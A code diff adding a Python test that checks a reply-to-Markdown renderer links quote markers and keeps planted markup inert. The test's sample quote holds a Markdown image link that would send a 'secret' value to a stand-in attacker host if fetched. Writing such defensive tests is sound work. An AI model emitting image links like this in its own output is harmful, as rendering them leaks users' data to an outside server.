@@ -91,6 +91,17 @@ def test_a_decoder_short_answer_goes_on_top_in_bold_and_its_line_is_not_repeated
     assert "Short answer" not in md and md.count("tar -xf a.tar -C DIR") == 1
 
 
+def test_quotes_follow_the_reply_with_linked_markers_and_planted_markup_inert():
+    answer = _answer("Use tar [1].", [1, 2])
+    answer.quotes = [(2, "Run ![x](http://evil.example/?q=secret) first."), (9, "Not given.")]
+    md = reply_markdown(answer)
+    head, quotes = md.split("From the documents:")
+    assert "Use tar" in head and "Run" not in head
+    assert '"Run' in quotes and "[[2]](#src-2)" in quotes  # the quote's marker opens its passage
+    assert "#src-9" not in quotes  # no link for a number that names no passage
+    assert "<img" not in _html(md) and "evil.example" in _html(md)  # shown, never fetched
+
+
 # ---- citation verification, code and escaping in the reply -----------------------------------
 
 
